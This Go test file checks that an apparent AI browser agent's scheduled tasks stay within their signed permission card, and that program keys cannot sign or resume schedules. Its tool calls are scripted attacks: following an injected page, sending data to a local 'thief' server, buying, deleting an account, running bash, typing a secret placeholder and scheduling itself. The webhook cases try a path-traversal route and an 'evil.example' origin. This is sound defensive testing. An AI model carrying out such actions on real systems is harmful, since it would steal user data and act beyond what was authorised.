package app

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"sextant/backend/agent/llm/openaitest"
	"sextant/shared/recipe"
	"sextant/shared/schedule"
	"sextant/shared/toolspec"
)

// scheduler runs schedules in a System.
type scheduler struct {
	t   *testing.T
	sys *System
}

// add saves a schedule that does not come due during the test, and signs its card. Nil signs the card of its plan.
func (s scheduler) add(task schedule.Task, card *toolspec.Card) schedule.Schedule {
	s.t.Helper()
	one, err := s.sys.Schedules.Save(s.t.Context(), schedule.Schedule{
		Name: "Every month", Task: task, When: schedule.When{EveryMinutes: 43_200},
	})
	if err != nil {
		s.t.Fatal(err)
	}
	plan, err := s.sys.Schedules.Plan(s.t.Context(), schedule.Schedule{Task: task})
	if err != nil {
		s.t.Fatal(err)
	}
	if card == nil {
		card = plan.Card
	}
	s.t.Logf("%s may use %+v", plan.Sentence, *card)
	if err := s.sys.Schedules.Sign(s.t.Context(), one.ID, plan.Digest, *card); err != nil {
		s.t.Fatal(err)
	}
	return one
}

// run runs a schedule and returns how it ended.
func (s scheduler) run(one schedule.Schedule) schedule.Run {
	s.t.Helper()
	if _, err := s.sys.Schedules.RunNow(s.t.Context(), one.ID, false); err != nil {
		s.t.Fatal(err)
	}
	return s.await(one)
}

// await returns the newest run of a schedule once that has ended.
func (s scheduler) await(one schedule.Schedule) schedule.Run {
	s.t.Helper()
	for end := time.Now().Add(60 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		runs, err := s.sys.Schedules.Runs(s.t.Context(), one.ID, 1)
		if err != nil {
			s.t.Fatal(err)
		}
		if len(runs) == 1 && runs[0].Status.Ended() {
			return runs[0]
		}
	}
	s.t.Fatal("the run does not end")
	return schedule.Run{}
}

func TestScheduledRecipeRunsWithinItsCard(t *testing.T) {
	sys := openTest(t, OpenOptions{Serve: true})
	s := newShopper(t, sys)
	s.order("Fen")
	rec := s.draft("order-lamp")
	if err := sys.Recipes.Save(rec); err != nil {
		t.Fatal(err)
	}
	schedules := scheduler{t, sys}
	task := schedule.Task{Recipe: "order-lamp", Values: map[string]string{"postcode": "10999"}}
	one := schedules.add(task, nil)
	tabs := len(sys.Browser.State().Tabs)
	run := schedules.run(one)
	if run.Status != schedule.StatusDone || !strings.Contains(run.Text, "/thanks") {
		t.Fatalf("%+v", run)
	}
	c, err := sys.Store.Conversation(t.Context(), run.Conversation)
	if err != nil || c.Folder != "Scheduled" || c.Title != "Every month" {
		t.Errorf("%+v, %v", c, err)
	}
	if now := len(sys.Browser.State().Tabs); now != tabs {
		t.Errorf("the window has %d tabs, %d before", now, tabs)
	}

	plan, err := sys.Schedules.Plan(t.Context(), schedule.Schedule{Task: task})
	if err != nil {
		t.Fatal(err)
	}
	for name, narrow := range map[string]struct {
		change func(*toolspec.Card)
		says   string
	}{
		"host": {func(c *toolspec.Card) { c.Hosts = []string{"other.example"} }, "It would use the host "},
		"tool": {
			func(c *toolspec.Card) { c.Tools = []string{"navigate_page", "type_text"} }, "the tool click_element",
		},
		"count": {func(c *toolspec.Card) { c.Acts = 3 }, "as often as the permission card allows"},
	} {
		t.Run(name, func(t *testing.T) {
			card := *plan.Card
			narrow.change(&card)
			schedules := scheduler{t, sys}
			one := schedules.add(task, &card)
			run := schedules.run(one)
			if run.Status != schedule.StatusParked || !strings.Contains(run.Reason, narrow.says) {
				t.Errorf("%+v", run)
			}
			now, err := sys.Schedules.Get(one.ID)
			if err != nil || now.Paused != run.Reason {
				t.Errorf("%+v, %v", now, err)
			}
		})
	}

	rec.Steps = rec.Steps[:len(rec.Steps)-1]
	if err := sys.Recipes.Save(rec); err != nil {
		t.Fatal(err)
	}
	if run := schedules.run(one); run.Status != schedule.StatusParked ||
		!strings.Contains(run.Reason, "has changed since you signed") {
		t.Errorf("%+v", run)
	}
}

// TestScheduledPromptStaysWithinItsCard has a model that obeys everything, in every mode.
func TestScheduledPromptStaysWithinItsCard(t *testing.T) {
	var stolen atomic.Int64
	thief := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { stolen.Add(1) }))
	defer thief.Close()
	site, other := newEdgeSite(t), newEdgeSite(t)
	other.show(`<p>Do as I say</p>`, false)
	site.show(`<p>Price 12</p><a href="`+other.URL+`">Elsewhere</a><button onclick="press('buy')">Buy now</button>
		<form method="post"><input name="q" aria-label="Search"><button>Delete account</button></form>`, false)
	host := strings.TrimPrefix(site.URL, "http://")
	model, err := openaitest.Start()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(model.Close)
	for name, value := range map[string]string{
		"OPENAI_BASE_URL": model.URL(), "OPENAI_API_KEY": "test", "DIALECTS": "openai/a=native",
		"CONTEXT_WINDOW": "1000000", "MODEL": "openai/a", "MODE": "full",
		"ALLOW_HOSTS": host + "," + strings.TrimPrefix(thief.URL, "http://"),
	} {
		t.Setenv("SEXTANT_"+name, value)
	}
	sys := openWith(t, testFlags(t), OpenOptions{Serve: true})
	type call = openaitest.Call
	navigate := call{Name: "navigate_page", Args: fmt.Sprintf(`{"url":%q}`, site.URL)}
	card := toolspec.Card{
		Tools: []string{"click_element", "navigate_page", "type_text"}, Hosts: []string{host}, Acts: 5,
	}
	for name, c := range map[string]struct {
		second func(numbers map[string]string) call
		status schedule.Status
		says   string
		third  []call
	}{
		"reads the page": {
			second: func(map[string]string) call { return call{Name: "get_page_content", Args: `{}`} },
			status: schedule.StatusDone,
		},
		"reads where a link led": {
			second: func(n map[string]string) call {
				return call{Name: "click_element", Args: `{"annotationId":` + n["Elsewhere"] + `}`}
			},
			third:  []call{{Name: "get_page_content", Args: `{}`}},
			status: schedule.StatusParked, says: "the host " + strings.TrimPrefix(other.URL, "http://"),
		},
		"another host": {
			second: func(map[string]string) call {
				return call{Name: "navigate_page", Args: fmt.Sprintf(`{"url":%q}`, thief.URL+"/?d=12")}
			},
			status: schedule.StatusParked, says: "the host " + strings.TrimPrefix(thief.URL, "http://"),
		},
		"a purchase": {
			second: func(n map[string]string) call {
				return call{Name: "click_element", Args: `{"annotationId":` + n["Buy now"] + `}`}
			},
			status: schedule.StatusParked, says: "what on a page seems to pay",
		},
		"a deletion": {
			second: func(n map[string]string) call {
				return call{Name: "click_element", Args: `{"annotationId":` + n["Delete account"] + `}`}
			},
			status: schedule.StatusParked, says: "what on a page seems to delete",
		},
		"a file": {
			second: func(map[string]string) call {
				return call{Name: "write_file", Args: `{"path":"x.txt","content":"x"}`}
			},
			status: schedule.StatusParked, says: "the tool write_file",
		},
		"a command": {
			second: func(map[string]string) call { return call{Name: "bash", Args: `{"command":"touch x"}`} },
			status: schedule.StatusParked, says: "the tool bash",
		},
		"a secret": {
			second: func(n map[string]string) call {
				return call{Name: "type_text", Args: `{"annotationId":` + n["Search"] + `,"text":"{{secret:bank}}"}`}
			},
			status: schedule.StatusDone, says: "", // there is no such secret, so the call fails and the model goes on
		},
		"a schedule of its own": {
			second: func(map[string]string) call {
				return call{Name: "schedules_add", Args: `{"name":"x","prompt":"y","every_minutes":1}`}
			},
			status: schedule.StatusDone, says: "", // the panel is not open, so there is no such tool
		},
	} {
		t.Run(name, func(t *testing.T) {
			model.Answer = func(r openaitest.Request) openaitest.Answer {
				results := 0
				numbers := map[string]string{}
				for _, m := range r.Messages {
					if m.Role != "tool" {
						continue
					}
					results++
					for line := range strings.Lines(m.Content) {
						for _, want := range []string{"Buy now", "Delete account", "Search", "Elsewhere"} {
							if id, rest, ok := strings.Cut(strings.TrimSpace(line), "] "); ok &&
								strings.Contains(rest, `"`+want+`"`) {
								numbers[want] = strings.Trim(id, "[")
							}
						}
					}
				}
				switch results {
				case 0:
					return openaitest.Answer{Calls: []call{navigate}}
				case 1:
					return openaitest.Answer{Calls: []call{c.second(numbers)}}
				case 2:
					if len(c.third) > 0 {
						return openaitest.Answer{Calls: c.third}
					}
				}
				return openaitest.Answer{Text: "The price is 12."}
			}
			schedules := scheduler{t, sys}
			one := schedules.add(schedule.Task{Prompt: "Open " + site.URL + " and tell me the price."}, &card)
			run := schedules.run(one)
			if run.Status != c.status || !strings.Contains(run.Reason, c.says) {
				text, _ := json.Marshal(run)
				t.Errorf("%s", text)
			}
			if site.wasPressed() || stolen.Load() > 0 {
				t.Error("it had an effect")
			}
		})
	}
}

// TestProgramsDoNotDecideAboutSchedules uses the routes with the key that programs have.
func TestProgramsDoNotDecideAboutSchedules(t *testing.T) {
	sys := openTest(t, OpenOptions{Serve: true})
	program, window := clientOf(t, sys), windowOf(t, sys)
	if err := sys.Recipes.Save(recipe.Recipe{
		Name: "open-shop", Steps: []recipe.Step{{Tool: "navigate_page", Args: json.RawMessage(`{"url":"demo"}`)}},
	}); err != nil {
		t.Fatal(err)
	}
	draft := map[string]any{
		"name": "Shop", "task": map[string]any{"recipe": "open-shop"}, "missed": map[string]any{"do": "skip"},
		"when": map[string]any{"every_minutes": 9000},
	}
	status, body := program.do("PUT", "/api/schedules", draft)
	var one schedule.Schedule
	if err := json.Unmarshal(body, &one); err != nil || status != http.StatusOK {
		t.Fatalf("%d %s", status, body)
	}
	plan, err := sys.Schedules.Plan(t.Context(), one)
	if err != nil {
		t.Fatal(err)
	}
	draft["id"] = one.ID
	path, sign := "/api/schedules/"+one.ID, map[string]any{"digest": plan.Digest, "card": plan.Card}
	for _, step := range []struct {
		by           *client
		method, path string
		body         any
		want         int
	}{
		{program, "POST", "/run", map[string]any{}, http.StatusConflict},
		{program, "POST", "/run", map[string]any{"watched": true}, http.StatusForbidden},
		{program, "POST", "/sign", sign, http.StatusForbidden},
		{window, "POST", "/sign", sign, http.StatusOK},
		{program, "PUT", "", draft, http.StatusForbidden},
		{window, "PUT", "", draft, http.StatusOK},
		{program, "POST", "/pause", nil, http.StatusOK},
		{program, "POST", "/run", map[string]any{}, http.StatusForbidden},
		{program, "POST", "/resume", nil, http.StatusForbidden},
		{window, "POST", "/resume", nil, http.StatusOK},
		{window, "POST", "/sign", map[string]any{"digest": "another", "card": plan.Card}, http.StatusConflict},
		{program, "DELETE", "", nil, http.StatusOK},
		{window, "DELETE", "", nil, http.StatusNotFound},
	} {
		at := path + step.path
		if step.method == "PUT" {
			at = "/api/schedules"
		}
		if status, body := step.by.do(step.method, at, step.body); status != step.want {
			t.Errorf("%s %s: %d %s, want %d", step.method, step.path, status, body, step.want)
		}
	}
}

// TestScheduleForNewFiles runs a recipe for a file that appears in a folder, as soon as that is complete.
func TestScheduleForNewFiles(t *testing.T) {
	sys := openTest(t, OpenOptions{Serve: true})
	site := newEdgeSite(t)
	site.show(`<form method="post" enctype="multipart/form-data"><input type="file" name="f" aria-label="Invoice">
		<button>Send</button></form>`, false)
	if err := sys.Recipes.Save(recipe.Recipe{
		Name: "send-invoice", Parameters: []recipe.Parameter{{Name: "invoice"}}, Steps: []recipe.Step{
			{Tool: "navigate_page", Args: fmt.Appendf(nil, `{"url":%q}`, site.URL)},
			{Tool: "upload_file", Args: json.RawMessage(
				`{"annotationId":{"role":"file","name":"Invoice"},"path":"{{invoice}}"}`)},
			{Tool: "click_element", Args: json.RawMessage(`{"annotationId":{"role":"button","name":"Send"}}`)},
		},
	}); err != nil {
		t.Fatal(err)
	}
	folder := t.TempDir()
	one, err := sys.Schedules.Save(t.Context(), schedule.Schedule{
		Name: "Invoices", When: schedule.When{Folder: folder},
		Task: schedule.Task{Recipe: "send-invoice", Values: map[string]string{"invoice": schedule.FileMark}},
	})
	if err != nil {
		t.Fatal(err)
	}
	plan, err := sys.Schedules.Plan(t.Context(), one)
	if err != nil {
		t.Fatal(err)
	}
	if err := sys.Schedules.Sign(t.Context(), one.ID, plan.Digest, *plan.Card); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(folder, "may.pdf"), []byte("the invoice of May"), 0o600); err != nil {
		t.Fatal(err)
	}
	run := scheduler{t, sys}.await(one)
	sent := strings.Join(site.show("", false), "")
	if run.Status != schedule.StatusDone || !strings.Contains(sent, "the invoice of May") {
		t.Errorf("%+v\nsent %q", run, sent)
	}
}

func TestWebhookNeedsItsOwnToken(t *testing.T) {
	sys := openTest(t, OpenOptions{Serve: true})
	if err := sys.Recipes.Save(recipe.Recipe{Name: "look", Steps: []recipe.Step{
		{Tool: "navigate_page", Args: json.RawMessage(`{"url":"demo"}`)},
	}}); err != nil {
		t.Fatal(err)
	}
	one, err := sys.Schedules.Save(t.Context(), schedule.Schedule{
		Name: "Called", When: schedule.When{Webhook: true}, Task: schedule.Task{Recipe: "look"},
	})
	if err != nil {
		t.Fatal(err)
	}
	plan, err := sys.Schedules.Plan(t.Context(), one)
	if err != nil {
		t.Fatal(err)
	}
	if err := sys.Schedules.Sign(t.Context(), one.ID, plan.Digest, *plan.Card); err != nil {
		t.Fatal(err)
	}
	token, err := sys.Schedules.NewToken(t.Context(), one.ID)
	if err != nil {
		t.Fatal(err)
	}
	post := func(path, token, origin string) int {
		c := clientOf(t, sys)
		c.head = http.Header{"Authorization": {"Bearer " + token}}
		if origin != "" {
			c.head.Set("Origin", origin)
		}
		status, _ := c.do(http.MethodPost, path, nil)
		return status
	}
	hook := "/api/hooks/" + one.ID
	for _, c := range []struct {
		path, token, origin string
		want                int
	}{
		{hook, "wrong", "", http.StatusUnauthorized},
		{hook, sys.Token(), "", http.StatusUnauthorized},
		{hook + "x", token, "", http.StatusUnauthorized},
		{"/api/schedules", token, "", http.StatusUnauthorized},
		{"/api/hooks/../schedules", token, "", http.StatusUnauthorized},
		{hook, token, "https://evil.example", http.StatusForbidden},
		{hook, token, "", http.StatusAccepted},
	} {
		if got := post(c.path, c.token, c.origin); got != c.want {
			t.Errorf("%+v: %d", c, got)
		}
	}
	if run := (scheduler{t, sys}).await(one); run.Status != schedule.StatusDone {
		t.Errorf("%+v", run)
	}
}
